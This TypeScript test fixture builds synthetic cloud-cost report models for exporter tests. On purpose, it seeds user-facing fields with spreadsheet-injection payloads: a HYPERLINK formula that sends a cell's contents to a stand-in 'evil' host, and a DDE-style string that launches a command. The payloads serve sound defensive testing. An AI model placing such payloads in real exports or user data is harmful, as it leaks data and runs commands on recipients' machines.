/**
 * Realistic report models for the exporter tests, the PNG script and the bench: three currencies,
 * negative credits, missing figures, accents and spreadsheet-injection payloads in user data.
 */
import type {
  AdminReportModel,
  ClientReportModel,
  DailyDetailRow,
  DailySpend,
  Decimal,
  MonthlyCategorySpend,
  ReportLocale,
} from '../../src/modules/reports/report.types.js';

export const INJECTION_TAG = '=HYPERLINK("http://evil/?"&A1,"x")';
export const INJECTION_ACCOUNT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";
export const INJECTION_SERVICE = '-2+3 Créditos ção';
export const ACCENTED_ACCOUNT_NAME = 'Producción Señales ção €';
export const NEGATIVE_CREDIT: Decimal = '-12.5000000000';

/** Deterministic pseudo-random numbers, so every run renders the same report. */
function rng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state * 1664525 + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

function dec(value: number, scale = 4): Decimal {
  return value.toFixed(scale);
}

function monthsBefore(month: string, count: number): string[] {
  const [y, m] = month.split('-').map(Number) as [number, number];
  const out: string[] = [];
  for (let i = count - 1; i >= 0; i -= 1) {
    const d = new Date(Date.UTC(y, m - 1 - i, 1));
    out.push(d.toISOString().slice(0, 7));
  }
  return out;
}

function daysOf(month: string): string[] {
  const [y, m] = month.split('-').map(Number) as [number, number];
  const last = new Date(Date.UTC(y, m, 0)).getUTCDate();
  return Array.from({ length: last }, (_, i) => `${month}-${String(i + 1).padStart(2, '0')}`);
}

const CATEGORIES: Record<string, Array<[string, number]>> = {
  USD: [
    ['Compute', 42_000],
    ['Databases', 18_500],
    ['Storage', 9_800],
    ['Networking', 6_200],
    ['Analytics', 4_100],
    ['Señales e IA', 2_300],
  ],
  BRL: [
    ['Compute', 61_000],
    ['Storage', 14_000],
    ['Databases', 9_500],
  ],
  EUR: [
    ['Compute', 3_100],
    ['Storage', 700],
  ],
};

export interface FixtureOptions {
  language?: ReportLocale;
  /** Months of trend (12 in the report; the bench asks for 24). */
  trendMonths?: number;
  /** Detail rows; a generator when large, so nothing sits in memory. */
  detailRows?: number;
}

export function buildClientModel(options: FixtureOptions = {}): ClientReportModel {
  const language = options.language ?? 'es';
  const month = '2024-09';
  const random = rng(42);
  const trendMonths = monthsBefore(month, options.trendMonths ?? 12);

  const monthlyTrend: MonthlyCategorySpend[] = [];
  for (const [currency, categories] of Object.entries(CATEGORIES)) {
    trendMonths.forEach((m, i) => {
      for (const [category, base] of categories) {
        const growth = 1 + i * 0.015 + (random() - 0.5) * 0.08;
        monthlyTrend.push({ month: m, category, currency, amount: dec(base * growth) });
      }
    });
  }

  const dailyTrend: DailySpend[] = [];
  for (const [currency, categories] of Object.entries(CATEGORIES)) {
    const monthly = categories.reduce((sum, [, base]) => sum + base, 0);
    daysOf(month).forEach((date, i) => {
      const weekend = [0, 6].includes(new Date(`${date}T00:00:00Z`).getUTCDay());
      let amount = (monthly / 30) * (weekend ? 0.82 : 1.05) * (1 + (random() - 0.5) * 0.06);
      let anomaly: DailySpend['anomaly'] = null;
      if (currency === 'USD' && (i === 11 || i === 23)) {
        anomaly = {
          expected: dec(amount),
          severity: i === 11 ? 'high' : 'medium',
          driver: i === 11 ? 'Amazon EC2 · 123456789012' : 'Amazon S3 · Señales',
        };
        amount *= i === 11 ? 1.9 : 1.45;
      }
      if (currency === 'BRL' && i === 17) {
        anomaly = {
          expected: dec(amount),
          severity: 'low',
          driver: 'Virtual Machines · São Paulo',
        };
        amount *= 1.3;
      }
      dailyTrend.push({ date, currency, amount: dec(amount, 10), anomaly });
    });
  }

  const services: Array<[string, string, string, number]> = [
    ['USD', 'Amazon Elastic Compute Cloud', 'Compute', 31_250.4567],
    ['USD', 'Amazon Relational Database Service', 'Databases', 15_900.12],
    ['USD', 'Amazon Simple Storage Service', 'Storage', 8_100.5],
    ['USD', 'AWS Lambda', 'Compute', 5_420.25],
    ['USD', 'Amazon CloudFront', 'Networking', 4_010.8],
    ['USD', 'Amazon Elastic Kubernetes Service', 'Compute', 3_980.0],
    ['USD', 'Amazon Redshift', 'Analytics', 3_100.33],
    ['USD', 'Amazon SageMaker — Señales', 'Señales e IA', 2_480.07],
    ['USD', 'Amazon DynamoDB', 'Databases', 1_950.9],
    ['USD', INJECTION_SERVICE, 'Other', -12.5],
    ['BRL', 'Virtual Machines', 'Compute', 58_100.0],
    ['BRL', 'Armazenamento de Blobs — ção', 'Storage', 13_200.45],
    ['BRL', 'Azure SQL Database', 'Databases', 9_140.1],
    ['EUR', 'Compute Engine', 'Compute', 3_050.0],
    ['EUR', 'Cloud Storage', 'Storage', 690.55],
  ];
  const totals: Record<string, number> = { USD: 76_191.0012, BRL: 84_640.55, EUR: 3_740.55 };
  const rankOf: Record<string, number> = {};
  const topServices = services.map(([currency, serviceName, category, amount]) => {
    rankOf[currency] = (rankOf[currency] ?? 0) + 1;
    const previous = amount * (0.9 + random() * 0.2);
    return {
      rank: rankOf[currency]!,
      serviceName,
      category,
      currency,
      amount: dec(amount),
      share: amount / totals[currency]!,
      vsPreviousMonth:
        currency === 'EUR'
          ? { reference: null, change: null, changeRatio: null }
          : {
              reference: dec(previous),
              change: dec(amount - previous),
              changeRatio: (amount - previous) / previous,
            },
    };
  });

  const accounts = [
    ['aws', '123456789012', 'Producción Señales ção €', 'USD', 52_300.1234],
    ['aws', '210987654321', 'Analítica', 'USD', 17_890.0],
    ['aws', '555000111222', INJECTION_ACCOUNT_NAME, 'USD', 6_000.8778],
    ['aws', '000011112222', null, 'USD', 0],
    ['azure', 'sub-7f3a-9c21', 'Assinatura São Paulo', 'BRL', 70_100.5],
    ['azure', 'sub-11aa-22bb', 'Homologação', 'BRL', 14_540.05],
    ['gcp', 'billing-01A2B3', 'Europa — Müller & Cía', 'EUR', 3_740.55],
  ] as const;

  const tagKeys = ['centro-de-costo', 'env'];
  const detailCount = options.detailRows ?? 400;
  const detailDays = daysOf(month);
  function* detail(): Generator<DailyDetailRow> {
    const r = rng(7);
    for (let i = 0; i < detailCount; i += 1) {
      const account = accounts[i % accounts.length]!;
      const service = services.find(([c]) => c === account[3])!;
      const credit = i % 97 === 5;
      yield {
        date: detailDays[i % detailDays.length]!,
        provider: account[0],
        accountId: account[1],
        accountName: account[2],
        serviceCategory: service[2],
        serviceName: service[1],
        region: i % 2 === 0 ? 'sa-east-1' : 'us-east-1',
        chargeCategory: credit ? 'Credit' : 'Usage',
        currency: account[3],
        amount: credit ? NEGATIVE_CREDIT : dec(r() * 900, 10),
        tags:
          i % 11 === 3
            ? { 'centro-de-costo': INJECTION_TAG, env: 'prod' }
            : { 'centro-de-costo': i % 3 === 0 ? 'Señales ção €' : 'Finanzas', env: 'prod' },
      };
    }
  }

  return {
    kind: 'client',
    cover: {
      clientName: 'Señales Andinas S.A.',
      clientSlug: 'senales-andinas',
      period: { from: `${month}-01`, to: `${month}-30`, month },
      generatedAt: '2024-10-01T14:05:09.000Z',
      timeZone: 'America/Sao_Paulo',
      language,
      requestId: 'req-7d2c9a1e-4b6f',
      metric: 'net_effective_cost',
      currency: 'USD',
      currencies: ['USD', 'BRL', 'EUR'],
    },
    keyFigures: [
      {
        currency: 'USD',
        totalSpend: '76191.0012000000',
        vsPreviousMonth: { reference: '70120.5000', change: '6070.5012', changeRatio: 0.08657 },
        vsSameMonthLastYear: {
          reference: '58002.2500',
          change: '18188.7512',
          changeRatio: 0.31359,
        },
        forecast: null,
        potentialMonthlySavings: '9340.2200',
        realizedSavings: '4120.7500',
        effectiveSavingsRate: 0.1843,
        commitmentCoverage: 0.6215,
        tagCoverage: 0.874,
      },
      {
        currency: 'BRL',
        totalSpend: '84640.5500',
        vsPreviousMonth: { reference: '90010.0000', change: '-5369.4500', changeRatio: -0.05965 },
        vsSameMonthLastYear: { reference: null, change: null, changeRatio: null },
        forecast: null,
        potentialMonthlySavings: '11200.0000',
        realizedSavings: null,
        effectiveSavingsRate: 0.052,
        commitmentCoverage: 0.31,
        tagCoverage: 0.455,
      },
      {
        currency: 'EUR',
        totalSpend: '3740.5500',
        vsPreviousMonth: { reference: null, change: null, changeRatio: null },
        vsSameMonthLastYear: { reference: null, change: null, changeRatio: null },
        forecast: null,
        potentialMonthlySavings: '0.0000',
        realizedSavings: null,
        effectiveSavingsRate: null,
        commitmentCoverage: null,
        tagCoverage: null,
      },
    ],
    monthlyTrend,
    topServices,
    accounts: accounts.map(([provider, accountId, accountName, currency, amount]) => ({
      provider,
      accountId,
      accountName,
      currency,
      amount: dec(amount),
      share: amount / totals[currency]!,
    })),
    dailyTrend,
    detailTagKeys: tagKeys,
    // Large details stay a generator, as a provider's cursor would be.
    dailyDetail: detailCount > 10_000 ? detail() : [...detail()],
    topFindings: [
      finding(
        'f-01',
        'Redimensionar 14 instancias EC2 sobredimensionadas (uso medio de CPU < 8 %)',
        'rightsizing',
        'USD',
        '4210.5500',
        'low',
        'i-0a1b2c3d4e5f60718',
      ),
      finding(
        'f-02',
        'Comprar un Compute Savings Plan de 1 año para la carga estable de cómputo',
        'commitment',
        'USD',
        '2890.0000',
        'medium',
        null,
      ),
      finding(
        'f-03',
        'Eliminar 38 volúmenes EBS sin adjuntar desde hace más de 30 días',
        'idle',
        'USD',
        '1104.1200',
        'low',
        'vol-0ffe1234abcd',
      ),
      finding(
        'f-04',
        'Desligar máquinas virtuais ociosas no ambiente de homologação — ção',
        'idle',
        'BRL',
        '6400.0000',
        'low',
        '/subscriptions/sub-11aa-22bb/vm-hml-01',
      ),
      finding(
        'f-05',
        'Mover objetos poco consultados de S3 Standard a S3 Intelligent-Tiering ' +
          'en los buckets de registros y respaldos históricos de la plataforma de Señales',
        'storage',
        'USD',
        '980.3000',
        'medium',
        'arn:aws:s3:::logs-senales-andinas-prod',
      ),
      finding(
        'f-06',
        'Reservar capacidade de Azure SQL Database por 3 anos',
        'commitment',
        'BRL',
        '4800.0000',
        'high',
        null,
      ),
      finding('f-07', INJECTION_TAG, 'other', 'USD', '155.2500', 'high', '+5511999999999'),
    ],
    commitments: [
      {
        id: 'sp-1a2b3c',
        type: 'Savings Plan',
        provider: 'aws',
        scope: 'Compute · todas las regiones',
        currency: 'USD',
        periodCost: '18000.0000',
        periodSavings: '4120.7500',
        utilization: 0.972,
        endDate: '2025-03-31',
      },
      {
        id: 'ri-9f8e7d',
        type: 'Reserved Instance',
        provider: 'aws',
        scope: 'db.r6g.xlarge · sa-east-1',
        currency: 'USD',
        periodCost: '2100.0000',
        periodSavings: null,
        utilization: null,
        endDate: null,
      },
      {
        id: 'az-res-001',
        type: 'Azure Reservation',
        provider: 'azure',
        scope: 'Máquinas virtuais D4s v5 · Brazil South',
        currency: 'BRL',
        periodCost: '12500.0000',
        periodSavings: '3100.0000',
        utilization: 0.815,
        endDate: '2024-11-15',
      },
    ],
    movers: [
      mover(
        'price',
        'Amazon Relational Database Service',
        'USD',
        '13800.0000',
        '15900.1200',
        '2100.1200',
        '2100.1200',
        '0.0000',
      ),
      mover(
        'usage',
        'Amazon Elastic Compute Cloud',
        'USD',
        '27400.0000',
        '31250.4567',
        '3850.4567',
        '-120.0000',
        '3970.4567',
      ),
      mover(
        'usage',
        'Virtual Machines',
        'BRL',
        '64000.0000',
        '58100.0000',
        '-5900.0000',
        '-900.0000',
        '-5000.0000',
      ),
      mover(
        'new',
        'Amazon SageMaker — Señales',
        'USD',
        '0.0000',
        '2480.0700',
        '2480.0700',
        '0.0000',
        '0.0000',
      ),
      mover(
        'removed',
        'Amazon Elasticsearch Service',
        'USD',
        '640.0000',
        '0.0000',
        '-640.0000',
        '0.0000',
        '0.0000',
      ),
    ],
    methodology: {
      dataThrough: '2024-09-30',
      lastIngestionAt: '2024-10-01T06:12:00.000Z',
      providers: ['aws', 'azure', 'gcp'],
      requiredTagKeys: ['centro-de-costo', 'env'],
      notes: ['Los créditos promocionales de AWS se muestran como importes negativos.'],
    },
  };
}

function finding(
  id: string,
  title: string,
  category: string,
  currency: string,
  monthlySavings: string,
  effort: 'low' | 'medium' | 'high',
  resourceId: string | null,
) {
  const provider = currency === 'BRL' ? 'azure' : 'aws';
  return {
    id,
    title,
    category,
    provider,
    accountId: currency === 'BRL' ? 'sub-11aa-22bb' : '123456789012',
    serviceName: currency === 'BRL' ? 'Virtual Machines' : 'Amazon EC2',
    resourceId,
    currency,
    monthlySavings,
    effort,
  };
}

function mover(
  kind: 'price' | 'usage' | 'new' | 'removed',
  serviceName: string,
  currency: string,
  previous: string,
  current: string,
  change: string,
  priceEffect: string | null,
  usageEffect: string | null,
) {
  return {
    kind,
    serviceName,
    accountId: currency === 'BRL' ? 'sub-7f3a-9c21' : '123456789012',
    currency,
    previous,
    current,
    change,
    priceEffect,
    usageEffect,
    // As the analytics service answers: the whole change of a new or removed service.
    newEffect: kind === 'new' ? change : '0.0000',
    removedEffect: kind === 'removed' ? change : '0.0000',
  };
}

export function buildAdminModel(language: ReportLocale = 'es'): AdminReportModel {
  return {
    kind: 'admin',
    cover: {
      period: { from: '2024-09-01', to: '2024-09-30', month: '2024-09' },
      generatedAt: '2024-10-01T14:05:09.000Z',
      timeZone: 'America/Bogota',
      language,
      requestId: 'req-admin-42',
      generatedBy: 'root@finopslatam.io',
    },
    platform: {
      clients: { total: 42, active: 39, suspended: 3, newInPeriod: 4 },
      users: { total: 311, active: 290, disabled: 21 },
      memberships: 356,
      cloudAccounts: 128,
      ingestions: { succeeded: 1204, failed: 17 },
      factRows: 18_442_310,
      spendUnderManagement: [
        { currency: 'USD', amount: '2841003.1200' },
        { currency: 'BRL', amount: '1904220.5000' },
      ],
      potentialMonthlySavings: [
        { currency: 'USD', amount: '312400.0000' },
        { currency: 'BRL', amount: '150000.0000' },
      ],
    },
    clients: [
      {
        name: 'Señales Andinas S.A.',
        slug: 'senales-andinas',
        planCode: 'enterprise',
        planName: 'Enterprise',
        status: 'active',
        members: 12,
        spendUnderManagement: [
          { currency: 'USD', amount: '76191.0012' },
          { currency: 'BRL', amount: '84640.5500' },
        ],
        potentialMonthlySavings: [{ currency: 'USD', amount: '9340.2200' }],
        lastIngestionAt: '2024-10-01T06:12:00.000Z',
      },
      {
        name: '=HYPERLINK("http://evil/?"&A1,"x") Ltda.',
        slug: 'evil-ltda',
        planCode: 'starter',
        planName: 'Starter',
        status: 'suspended',
        members: 2,
        spendUnderManagement: [],
        potentialMonthlySavings: [],
        lastIngestionAt: null,
      },
      {
        name: 'Comércio Exterior São João ção',
        slug: 'comercio-sao-joao',
        planCode: 'growth',
        planName: 'Growth',
        status: 'active',
        members: 5,
        spendUnderManagement: [{ currency: 'BRL', amount: '-12.5000' }],
        potentialMonthlySavings: [{ currency: 'BRL', amount: '0.0000' }],
        lastIngestionAt: '2024-09-29T23:50:00.000Z',
      },
    ],
    subscriptions: {
      plans: [
        {
          planCode: 'starter',
          planName: 'Starter',
          currency: 'USD',
          monthlyPrice: '490.00',
          trialing: 5,
          active: 11,
          pastDue: 1,
          canceled: 2,
          monthlyRecurringRevenue: '5880.00',
        },
        {
          planCode: 'growth',
          planName: 'Growth',
          currency: 'BRL',
          monthlyPrice: '4900.00',
          trialing: 1,
          active: 14,
          pastDue: 0,
          canceled: 1,
          monthlyRecurringRevenue: '68600.00',
        },
        {
          planCode: 'enterprise',
          planName: 'Enterprise',
          currency: 'USD',
          monthlyPrice: '3900.00',
          trialing: 0,
          active: 9,
          pastDue: 1,
          canceled: 0,
          monthlyRecurringRevenue: '39000.00',
        },
      ],
      monthlyRecurringRevenue: [
        { currency: 'USD', amount: '44880.00' },
        { currency: 'BRL', amount: '68600.00' },
      ],
      newInPeriod: 6,
      canceledInPeriod: 3,
    },
    security: {
      logins: 4210,
      loginFailures: 188,
      lockouts: 7,
      privilegedAccesses: 64,
      passwordResets: 23,
      previous: {
        logins: 3980,
        loginFailures: 240,
        lockouts: 9,
        privilegedAccesses: 51,
        passwordResets: 30,
      },
    },
  };
}
